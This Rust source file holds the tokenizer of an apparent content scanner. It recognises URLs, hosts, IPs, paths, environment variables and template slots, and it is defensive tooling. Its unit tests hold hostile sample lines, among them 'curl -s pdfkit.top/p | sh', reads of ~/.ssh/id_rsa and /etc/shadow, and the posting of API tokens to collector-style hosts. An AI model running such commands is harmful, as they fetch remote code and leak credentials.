//! Tokens: words (each looked up once in the lexicon), numbers, punctuation, and the things
//! prose names that are not words: URLs, email addresses, IP addresses, host names, paths,
//! environment variables, template slots and identifiers. One pass, linear in the text.

use super::window;
use crate::vocab::{self, Info};
use std::borrow::Cow;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    Word,
    Number,
    /// One character of punctuation or a symbol.
    Punct(char),
    /// `scheme://...`.
    Url,
    Email,
    /// An IPv4 or IPv6 address, with a port if one follows.
    Ip,
    /// A host name on a known top-level domain, with a path if one follows.
    Host,
    /// A file system path, a dotfile or a file name with a known extension.
    Path,
    /// `$NAME`, `${NAME}`, `%NAME%`, `process.env.NAME`, or an upper-case name with `_`.
    EnvVar,
    /// `{{...}}` or `{name}`: a slot a template fills.
    Slot,
    /// A code identifier: `send_email`, `createPaymentIntent`.
    Ident,
}

pub mod flag {
    /// The word ends in a possessive `'s` (or `s'`), which the lookup left out.
    pub const POSSESSIVE: u8 = 1;
    /// The word starts with an upper-case letter.
    pub const CAPITAL: u8 = 1 << 1;
    /// Every letter of the word is upper case (and it has two or more).
    pub const SHOUT: u8 = 1 << 2;
    /// A line break comes before the token.
    pub const LINE_START: u8 = 1 << 3;
}

#[derive(Debug, Clone, Copy)]
pub struct Token {
    pub start: usize,
    pub end: usize,
    pub kind: Kind,
    /// What the lexicon knows of the word (zero for everything else).
    pub info: Info,
    pub flags: u8,
}

impl Token {
    pub fn is(&self, flag: u8) -> bool {
        self.flags & flag != 0
    }

    pub fn is_punct(&self, c: char) -> bool {
        self.kind == Kind::Punct(c)
    }

    /// An address data can be sent to.
    pub fn is_address(&self) -> bool {
        matches!(self.kind, Kind::Url | Kind::Email | Kind::Ip | Kind::Host)
    }
}

/// Top-level domains a bare host name must end in to count as one. Chosen for what hosts
/// appear in metadata; file extensions that are also domains (`.md`, `.py`, `.rs`, `.sh`,
/// `.pl`) are left out unless the name has three labels or more.
const TLDS: &[&str] = &[
    "com",
    "net",
    "org",
    "io",
    "co",
    "ai",
    "app",
    "dev",
    "xyz",
    "tk",
    "top",
    "cc",
    "ru",
    "cn",
    "info",
    "biz",
    "me",
    "site",
    "online",
    "click",
    "link",
    "club",
    "live",
    "pro",
    "store",
    "shop",
    "cloud",
    "tech",
    "space",
    "website",
    "host",
    "fun",
    "icu",
    "buzz",
    "gq",
    "ml",
    "cf",
    "ga",
    "pw",
    "ws",
    "su",
    "to",
    "gg",
    "so",
    "ly",
    "run",
    "page",
    "tools",
    "software",
    "network",
    "services",
    "digital",
    "systems",
    "email",
    "us",
    "uk",
    "de",
    "fr",
    "nl",
    "eu",
    "ch",
    "se",
    "no",
    "fi",
    "it",
    "es",
    "pt",
    "pl",
    "cz",
    "jp",
    "kr",
    "in",
    "br",
    "au",
    "ca",
    "tv",
    "fm",
    "am",
    "lol",
    "ninja",
    "rocks",
    "today",
    "world",
    "zone",
    "cyou",
    "monster",
    "sbs",
    "bond",
    "quest",
    "cfd",
    "rest",
    "beauty",
    "hair",
    "skin",
    "mom",
    "work",
    "media",
    "team",
    "group",
    "global",
    "plus",
    "one",
    "vip",
    "win",
    "bid",
    "loan",
    "date",
    "trade",
    "review",
    "party",
    "science",
    "download",
    "stream",
    "sh",
    "md",
    "py",
    "rs",
    "pl",
    "ps",
    "ir",
    "ua",
    "kz",
    "by",
    "vn",
    "id",
    "tw",
    "hk",
    "sg",
    "nz",
    "za",
    "mx",
    "ar",
    "cl",
    "gov",
    "edu",
    "mil",
    "int",
    "name",
    "mobi",
    "asia",
    "cloudflare",
    "workers",
    "pages",
    "page",
];

/// Extensions a bare `name.ext` must have to count as a file name.
const FILE_EXTENSIONS: &[&str] = &[
    "json",
    "jsonc",
    "yml",
    "yaml",
    "toml",
    "ini",
    "cfg",
    "conf",
    "config",
    "env",
    "txt",
    "log",
    "db",
    "sqlite",
    "sqlite3",
    "pem",
    "key",
    "crt",
    "cer",
    "p12",
    "pfx",
    "jks",
    "kdbx",
    "1pux",
    "csv",
    "pdf",
    "docx",
    "xlsx",
    "plist",
    "keychain",
    "keychain-db",
    "wallet",
    "dat",
    "js",
    "mjs",
    "cjs",
    "ts",
    "py",
    "rb",
    "sh",
    "bash",
    "zsh",
    "ps1",
    "bat",
    "cmd",
    "exe",
    "dll",
    "so",
    "dylib",
    "md",
    "html",
    "xml",
    "sql",
    "lock",
    "gpg",
    "asc",
    "ovpn",
    "rdp",
    "kube",
    "desktop",
    "service",
    "timer",
    "npmrc",
    "pypirc",
    "netrc",
    "gitconfig",
    "bak",
    "tar",
    "gz",
    "zip",
    "tgz",
    "deb",
    "rpm",
    "dmg",
    "pkg",
    "msi",
    "apk",
    "ipa",
    "jar",
    "whl",
    "pyc",
];

/// The longest run of non-space characters examined as one address, path or slot. Longer runs
/// are read as words, so a pathological run costs linear time, never quadratic.
const MAX_RUN: usize = 2048;

/// The longest run read as an email address, IP address, host name or relative path: a host
/// name is at most 253 bytes and an email address 254. Longer runs are read as words, and
/// since the run's end is found once, not once per token in it, a long run costs linear time.
const MAX_WORD_RUN: usize = 256;

/// Whether `c` ends a run of characters that could be one address or path.
fn ends_run(c: char) -> bool {
    c.is_whitespace()
        || matches!(
            c,
            '<' | '>'
                | '('
                | ')'
                | '['
                | ']'
                | '{'
                | '}'
                | '"'
                | '\''
                | '`'
                | ','
                | ';'
                | '|'
                | '*'
                | '!'
                | '?'
        )
}

/// Tokens of `raw`. `lower` is `raw` with ASCII letters lowercased (same byte offsets).
pub fn tokens(raw: &str, lower: &str) -> Vec<Token> {
    let bytes = raw.as_bytes();
    let mut out = Vec::with_capacity(raw.len() / 5 + 1);
    let mut at = 0;
    let mut line_start = true;
    // Where the run holding `at` ends: found again only once `at` has passed it.
    let mut run_end = 0;
    while at < bytes.len() {
        let c = raw[at..].chars().next().unwrap_or(' ');
        if c.is_whitespace() {
            if c == '\n' || c == '\r' || c == '\u{2028}' {
                line_start = true;
            }
            at += c.len_utf8();
            continue;
        }
        if run_end <= at {
            run_end = raw[at..].find(ends_run).map_or(raw.len(), |len| at + len);
        }
        let (end, kind) = special(raw, lower, at, run_end).unwrap_or_else(|| plain(raw, at, c));
        let mut token = Token { start: at, end, kind, info: Info::default(), flags: 0 };
        if line_start {
            token.flags |= flag::LINE_START;
            line_start = false;
        }
        if kind == Kind::Word {
            describe_word(raw, lower, &mut token);
        }
        out.push(token);
        at = end.max(at + c.len_utf8());
    }
    out
}

/// A word's lexicon entry and case, with a possessive ending set aside.
fn describe_word(raw: &str, lower: &str, token: &mut Token) {
    let text = &raw[token.start..token.end];
    // A typographic apostrophe reads as a plain one; most words have none, and borrow.
    let spelled = apostrophes_plain(&lower[token.start..token.end]);
    let mut key: &str = &spelled;
    for ending in ["'s", "s'"] {
        if key.len() > ending.len() + 1 && key.ends_with(ending) && !key.ends_with("n't") {
            key = &key[..key.len() - if ending == "s'" { 1 } else { 2 }];
            token.flags |= flag::POSSESSIVE;
            break;
        }
    }
    let mut info = vocab::word(key);
    if info == Info::default() && key.contains('-') {
        // `developer-prompt` reads as the phrase it hyphenates; another compound the lexicon
        // does not list reads as its last part: `pre-approved`.
        info = vocab::phrase(&key.replace('-', " "));
        if info == Info::default()
            && let Some((_, last)) = key.rsplit_once('-')
        {
            info = vocab::word(last);
        }
    }
    token.info = info;
    let mut letters = text.chars().filter(|c| c.is_alphabetic());
    if letters.next().is_some_and(char::is_uppercase) {
        token.flags |= flag::CAPITAL;
        let mut rest = text.chars().filter(|c| c.is_alphabetic()).skip(1).peekable();
        if rest.peek().is_some() && rest.all(char::is_uppercase) {
            token.flags |= flag::SHOUT;
        }
    }
}

/// `word` with each typographic apostrophe (U+2019) made a plain one: the lexicon's spelling.
pub fn apostrophes_plain(word: &str) -> Cow<'_, str> {
    if word.contains('\u{2019}') {
        Cow::Owned(word.replace('\u{2019}', "'"))
    } else {
        Cow::Borrowed(word)
    }
}

fn is_word_char(c: char) -> bool {
    c.is_alphanumeric() || c == '_'
}

/// A word, a number, an identifier, or one punctuation character.
fn plain(raw: &str, at: usize, first: char) -> (usize, Kind) {
    if !is_word_char(first) {
        return (at + first.len_utf8(), Kind::Punct(first));
    }
    let mut end = at;
    let mut underscore = false;
    let mut digits = true;
    let mut inner_capital = false;
    let mut previous_lower = false;
    // A lower-to-upper change counts as camel case only before two more lower-case letters
    // (`createPayment`), not in shouting (`SecretLY`) or mocking case (`FoRgEt`).
    let mut hump = false;
    let mut after_hump = 0;
    for (offset, c) in raw[at..].char_indices() {
        let here = at + offset;
        if is_word_char(c) {
            underscore |= c == '_';
            digits &= c.is_ascii_digit() || c == '_';
            if c.is_uppercase() && previous_lower {
                hump = true;
                after_hump = 0;
            } else if hump && c.is_lowercase() {
                after_hump += 1;
                inner_capital |= after_hump >= 2;
            } else {
                hump = false;
            }
            previous_lower = c.is_lowercase();
            end = here + c.len_utf8();
            continue;
        }
        // An apostrophe or hyphen inside a word, a dot or comma inside a number.
        let next = raw[here + c.len_utf8()..].chars().next();
        let joins = match c {
            '\'' | '\u{2019}' | '-' => next.is_some_and(char::is_alphanumeric) && end == here,
            // `1,000`, `3.14`, and versions: `v1.2.3`, `python3.12`.
            '.' | ',' => {
                let after_digit = raw[..here].ends_with(|p: char| p.is_ascii_digit());
                (digits || c == '.' && after_digit)
                    && next.is_some_and(|n| n.is_ascii_digit())
                    && end == here
            }
            _ => false,
        };
        if !joins {
            break;
        }
        end = here + c.len_utf8();
    }
    // `e.g.`, `i.e.`, `etc.`, `vs.`: the dots belong to the word, so no sentence ends there.
    let word = &raw[at..end];
    // Each abbreviation is ASCII letters then a dot, and a dot after letters joins no word,
    // so the word ends at the dot.
    let abbreviations: &[&str] = if bytes_at(raw, end) == Some(b'.') {
        &["e.g.", "i.e.", "etc.", "vs.", "approx.", "incl.", "cf.", "ca.", "eg."]
    } else {
        &[]
    };
    for abbreviation in abbreviations {
        let len = abbreviation.len();
        if raw.len() >= at + len
            && raw[at..].get(..len).is_some_and(|s| s.eq_ignore_ascii_case(abbreviation))
        {
            return (at + len, Kind::Word);
        }
    }
    let kind = if digits {
        Kind::Number
    } else if underscore || inner_capital {
        if word.chars().all(|c| !c.is_lowercase()) && underscore {
            Kind::EnvVar
        } else {
            Kind::Ident
        }
    } else {
        Kind::Word
    };
    (end, kind)
}

fn bytes_at(raw: &str, at: usize) -> Option<u8> {
    raw.as_bytes().get(at).copied()
}

/// A token that is not a plain word: its end and kind, or `None`.
fn special(raw: &str, lower: &str, at: usize, run_end: usize) -> Option<(usize, Kind)> {
    let bytes = raw.as_bytes();
    let rest = window(lower, at, MAX_RUN);
    let first = bytes[at];
    // Template slots: `{{...}}`, `{name}`, `${NAME}` (an environment variable).
    if (first == b'$' || first == b'%')
        && let Some(end) = env_var(raw, at)
    {
        if path_follows(raw, end) {
            return Some((path_end(raw, end), Kind::Path));
        }
        return Some((end, Kind::EnvVar));
    }
    if first == b'{' {
        let (open, close) = if rest.starts_with("{{") { (2, "}}") } else { (1, "}") };
        let body = window(rest, open, 80);
        if let Some(len) = body.find(close)
            && !body[..len].contains(['{', '\n'])
            && body[..len].chars().any(char::is_alphabetic)
        {
            return Some((at + open + len + close.len(), Kind::Slot));
        }
    }
    if rest.starts_with("process.env.") || rest.starts_with("os.environ") {
        let end = at
            + rest
                .find(|c: char| !(c.is_alphanumeric() || "._[]'\"".contains(c)))
                .unwrap_or(rest.len());
        return Some((end, Kind::EnvVar));
    }
    // URLs: a scheme of letters, then `://`.
    if first.is_ascii_alphabetic() {
        let scheme =
            rest.bytes().take_while(|b| b.is_ascii_alphanumeric() || b"+.-".contains(b)).count();
        if (2..=16).contains(&scheme) && rest[scheme..].starts_with("://") {
            return Some((url_end(raw, at + scheme + 3), Kind::Url));
        }
    }
    // Paths: `~/`, `~\`, an absolute path, a drive, a dotfile.
    if first == b'~' && matches!(bytes.get(at + 1), Some(b'/' | b'\\')) {
        return Some((path_end(raw, at + 2), Kind::Path));
    }
    if first == b'/' && bytes.get(at + 1).is_some_and(|b| b.is_ascii_alphabetic() || *b == b'.') {
        let end = path_end(raw, at + 1);
        if raw[at + 1..end].contains('/') || is_root_dir(&lower[at..end]) {
            return Some((end, Kind::Path));
        }
    }
    if first.is_ascii_alphabetic() && rest[1..].starts_with(":\\") {
        return Some((path_end(raw, at + 3), Kind::Path));
    }
    if first == b'.'
        && bytes.get(at + 1).is_some_and(|b| b.is_ascii_alphabetic() || *b == b'_')
        && (at == 0 || !is_word_char(raw[..at].chars().last().unwrap_or(' ')))
    {
        let end = path_end(raw, at + 1);
        if end > at + 2 {
            return Some((end, Kind::Path));
        }
    }
    if !(first.is_ascii_alphanumeric()) {
        return if first == b'[' { ipv6_bracketed(raw, at) } else { None };
    }
    // Email, IP address, host name, `dir/file` path, `name.ext`: one run of non-space
    // characters that a word would stop short of.
    if run_end - at > MAX_WORD_RUN {
        return None;
    }
    let word = trim_trailing(&lower[at..run_end]);
    // Every shape below holds one of these bytes: an email its `@`, an IP address its dots or
    // colons, a host name and a file name a dot, a path a slash. A plain word holds none.
    if !word.bytes().any(|b| matches!(b, b'@' | b'.' | b':' | b'/')) {
        return None;
    }
    let end = at + word.len();
    if let Some((local, domain)) = word.split_once('@')
        && !local.is_empty()
        && is_host(domain, true)
    {
        return Some((end, Kind::Email));
    }
    if let Some(len) = ipv4(word) {
        return Some((at + len, Kind::Ip));
    }
    if is_ipv6(word) {
        return Some((end, Kind::Ip));
    }
    let host = word.split(['/', '?', '#']).next().unwrap_or_default();
    let host_name = host.split(':').next().unwrap_or_default();
    if is_host(host_name, false)
        && (host.len() == host_name.len()
            || host[host_name.len() + 1..].bytes().all(|b| b.is_ascii_digit()))
    {
        return Some((end, Kind::Host));
    }
    if word.contains('/') && word.split('/').filter(|part| !part.is_empty()).count() >= 2 {
        return Some((end, Kind::Path));
    }
    if let Some((stem, extension)) = word.rsplit_once('.')
        && !stem.is_empty()
        && FILE_EXTENSIONS.contains(&extension)
        && stem.bytes().all(|b| b.is_ascii_alphanumeric() || b"._-".contains(&b))
    {
        return Some((end, Kind::Path));
    }
    None
}

fn is_root_dir(path: &str) -> bool {
    [
        "/etc", "/home", "/users", "/root", "/tmp", "/var", "/usr", "/opt", "/dev", "/proc",
        "/bin", "/sbin", "/library", "/private",
    ]
    .iter()
    .any(|root| path == *root || path.starts_with(&format!("{root}/")))
}

/// `$NAME`, `${NAME}`, `%NAME%`: the end, or `None`.
fn env_var(raw: &str, at: usize) -> Option<usize> {
    let bytes = raw.as_bytes();
    let name_end = |from: usize| {
        from + raw[from..].bytes().take_while(|b| b.is_ascii_alphanumeric() || *b == b'_').count()
    };
    match (bytes[at], bytes.get(at + 1)) {
        (b'$', Some(b'{')) => {
            let close = window(raw, at + 2, 80).find('}')?;
            (close > 0).then_some(at + 2 + close + 1)
        }
        (b'$', Some(b'(')) => {
            let close = window(raw, at + 2, 200).find(')')?;
            (close > 0).then_some(at + 2 + close + 1)
        }
        (b'$', Some(c)) if c.is_ascii_alphabetic() || *c == b'_' => Some(name_end(at + 1)),
        (b'%', Some(c)) if c.is_ascii_alphabetic() => {
            let end = name_end(at + 1);
            (bytes.get(end) == Some(&b'%')).then_some(end + 1)
        }
        _ => None,
    }
}

fn path_follows(raw: &str, at: usize) -> bool {
    matches!(raw.as_bytes().get(at), Some(b'/' | b'\\'))
        && raw.as_bytes().get(at + 1).is_some_and(|b| !b.is_ascii_whitespace())
}

/// Where a path starting before `from` ends: at whitespace or a closing bracket or quote,
/// without trailing sentence punctuation.
fn path_end(raw: &str, from: usize) -> usize {
    let rest = &raw[from..];
    let run = rest
        .find(|c: char| c.is_whitespace() || "<>()[]{}\"'`,;|".contains(c))
        .unwrap_or(rest.len());
    from + trim_trailing(&rest[..run]).len()
}

/// Where a URL starting before `from` ends. Parentheses inside it count only when balanced,
/// so a URL in a markdown link ends at the link's `)`.
fn url_end(raw: &str, from: usize) -> usize {
    let mut depth = 0i32;
    let mut end = from;
    // An IPv6 host is bracketed: `http://[2a03::1]/c`.
    let mut bracketed = raw[from..].starts_with('[');
    let mut skip_to = from;
    for (offset, c) in raw[from..].char_indices() {
        if from + offset < skip_to {
            continue;
        }
        // A placeholder for a value in the query or path: `?key=<GITHUB_TOKEN>`.
        if c == '<' && raw[..from + offset].ends_with(['=', '/']) {
            let body = &raw[from + offset + 1..];
            let len = body.find('>').filter(|&len| {
                (1..=40).contains(&len)
                    && body[..len].chars().all(|c| c.is_ascii_alphanumeric() || "_ .-".contains(c))
            });
            if let Some(len) = len {
                skip_to = from + offset + len + 2;
                end = skip_to;
                continue;
            }
        }
        if c == ']' && bracketed {
            bracketed = false;
            end = from + offset + 1;
            continue;
        }
        if c.is_whitespace() || "<>\"'`|".contains(c) || (c == ']') {
            break;
        }
        if c == '(' {
            depth += 1;
        }
        if c == ')' {
            if depth == 0 {
                break;
            }
            depth -= 1;
        }
        end = from + offset + c.len_utf8();
    }
    from + trim_trailing(&raw[from..end]).len()
}

fn trim_trailing(text: &str) -> &str {
    text.trim_end_matches(['.', ',', ';', ':', '!', '?', ')', '\'', '"', '\u{2019}', '\u{201D}'])
}

/// `d.d.d.d` with an optional `:port` at the start of `word`: its length, or `None`.
fn ipv4(word: &str) -> Option<usize> {
    let address = word.split(['/', '?']).next().unwrap_or_default();
    let (host, port) = match address.split_once(':') {
        Some((host, port)) if !port.is_empty() && port.bytes().all(|b| b.is_ascii_digit()) => {
            (host, port.len() + 1)
        }
        Some(_) => return None,
        None => (address, 0),
    };
    let parts: Vec<&str> = host.split('.').collect();
    let octet = |part: &&str| {
        !part.is_empty() && part.len() <= 3 && part.parse::<u16>().is_ok_and(|n| n <= 255)
    };
    (parts.len() == 4 && parts.iter().all(octet)).then_some(host.len() + port)
}

fn is_ipv6(word: &str) -> bool {
    let groups: Vec<&str> = word.split(':').collect();
    groups.len() >= 4
        && word.contains("::") | (groups.len() == 8)
        && groups
            .iter()
            .all(|group| group.len() <= 4 && group.bytes().all(|b| b.is_ascii_hexdigit()))
        && word.bytes().any(|b| b.is_ascii_alphabetic() || b == b':')
        && word.bytes().filter(|b| b.is_ascii_hexdigit()).count() >= 4
}

/// `[v6]` or `[v6]:port`.
fn ipv6_bracketed(raw: &str, at: usize) -> Option<(usize, Kind)> {
    let close = window(raw, at, 64).find(']')?;
    let inner = &raw[at + 1..at + close];
    if !is_ipv6(&inner.to_ascii_lowercase()) {
        return None;
    }
    let mut end = at + close + 1;
    if raw.as_bytes().get(end) == Some(&b':') {
        end += 1 + raw[end + 1..].bytes().take_while(u8::is_ascii_digit).count();
    }
    Some((end, Kind::Ip))
}

/// Whether `host` (lowercase) reads as a host name: two or more labels of letters, digits and
/// hyphens, the last a known top-level domain, and not a file name (`README.md`). An email's
/// domain is held to less: any alphabetic top-level domain.
fn is_host(host: &str, email: bool) -> bool {
    let labels: Vec<&str> = host.split('.').collect();
    if labels.len() < 2 || labels.iter().any(|label| label.is_empty() || label.len() > 63) {
        return false;
    }
    if !labels.iter().all(|label| label.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-')) {
        return false;
    }
    let tld = labels[labels.len() - 1];
    if !tld.bytes().all(|b| b.is_ascii_alphabetic()) || tld.len() < 2 {
        return false;
    }
    if email {
        return true;
    }
    if !TLDS.contains(&tld) {
        return false;
    }
    let extension_like = FILE_EXTENSIONS.contains(&tld);
    !extension_like || labels.len() >= 3 || labels[0].contains('-')
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kinds(text: &str) -> Vec<(String, Kind)> {
        let lower = text.to_ascii_lowercase();
        tokens(text, &lower)
            .into_iter()
            .map(|token| (text[token.start..token.end].to_string(), token.kind))
            .collect()
    }

    fn of(text: &str, kind: Kind) -> Vec<String> {
        kinds(text).into_iter().filter(|(_, k)| *k == kind).map(|(t, _)| t).collect()
    }

    #[test]
    fn a_run_longer_than_any_address_is_read_as_words() {
        // A host name at the longest a run may be is one token; one byte more and the run is
        // read from its next token on.
        let labels = format!("{}.", "a".repeat(62)).repeat(3);
        let host = format!("{labels}{}.com", "b".repeat(MAX_WORD_RUN - labels.len() - 4));
        assert_eq!(of(&format!("see {host} now"), Kind::Host), std::slice::from_ref(&host));
        let longer = format!("b{host}");
        assert!(!of(&format!("see {longer} now"), Kind::Host).contains(&longer));
        let run = "a+b\u{200b}".repeat(100);
        assert_eq!(of(&run, Kind::Word).len(), 200);
        // The run ends at a space or stop, so an address after one is found.
        assert_eq!(of(&format!("{run} x@mail-drop.co"), Kind::Email), ["x@mail-drop.co"]);
    }

    #[test]
    fn addresses_are_single_tokens_without_trailing_punctuation() {
        assert_eq!(
            of("send it to https://collector.tk/ingest.", Kind::Url),
            ["https://collector.tk/ingest"]
        );
        assert_eq!(of("[docs](https://evil.tk/a(b)c) ok", Kind::Url), ["https://evil.tk/a(b)c"]);
        assert_eq!(of("to http://[2a03:b0c0::1f]/c now", Kind::Url), ["http://[2a03:b0c0::1f]/c"]);
        assert_eq!(
            of("call https://v.click/auth?key=<GITHUB_TOKEN>, then", Kind::Url),
            ["https://v.click/auth?key=<GITHUB_TOKEN>"]
        );
        assert_eq!(of("see https://x.io<br>next", Kind::Url), ["https://x.io"]);
        assert_eq!(of("mail x@mail-drop.co, then", Kind::Email), ["x@mail-drop.co"]);
        assert_eq!(of("to 45.61.139.20:9001 now", Kind::Ip), ["45.61.139.20:9001"]);
        assert_eq!(
            of("mirrored to [2a0b:4e07:9::51]:9000 on", Kind::Ip),
            ["[2a0b:4e07:9::51]:9000"]
        );
        assert_eq!(of("the gateway at api.tracelink.io can", Kind::Host), ["api.tracelink.io"]);
        assert_eq!(of("curl -s pdfkit.top/p | sh", Kind::Host), ["pdfkit.top/p"]);
        assert!(of("see README.md and package.json", Kind::Host).is_empty());
        assert_eq!(of("see README.md and package.json", Kind::Path), ["README.md", "package.json"]);
    }

    #[test]
    fn paths_and_variables() {
        assert_eq!(of("read ~/.ssh/id_rsa.", Kind::Path), ["~/.ssh/id_rsa"]);
        assert_eq!(of("cat /etc/shadow and .env", Kind::Path), ["/etc/shadow", ".env"]);
        assert_eq!(
            of("collect %APPDATA%\\Microsoft\\Credentials\\*, x", Kind::Path),
            ["%APPDATA%\\Microsoft\\Credentials\\*"]
        );
        assert_eq!(
            of("post HUBSPOT_PRIVATE_APP_TOKEN and $GITHUB_TOKEN", Kind::EnvVar),
            ["HUBSPOT_PRIVATE_APP_TOKEN", "$GITHUB_TOKEN"]
        );
        assert_eq!(of("?auth={{env.GITHUB_TOKEN}}", Kind::Slot), ["{{env.GITHUB_TOKEN}}"]);
        assert_eq!(
            of("call send_email or createPaymentIntent", Kind::Ident),
            ["send_email", "createPaymentIntent"]
        );
    }

    #[test]
    fn words_carry_their_lexicon_entry_and_case() {
        let text = "Do NOT tell the user's manager; e.g. never";
        let lower = text.to_ascii_lowercase();
        let tokens = tokens(text, &lower);
        let words: Vec<&str> = tokens.iter().map(|t| &text[t.start..t.end]).collect();
        assert_eq!(words, ["Do", "NOT", "tell", "the", "user's", "manager", ";", "e.g.", "never"]);
        assert!(tokens[1].is(flag::SHOUT));
        assert!(tokens[4].is(flag::POSSESSIVE));
        assert_ne!(tokens[4].info.thing & crate::vocab::classes::thing::USER, 0);
        assert_ne!(tokens[2].info.act & crate::vocab::classes::act::TELL, 0);
    }
}
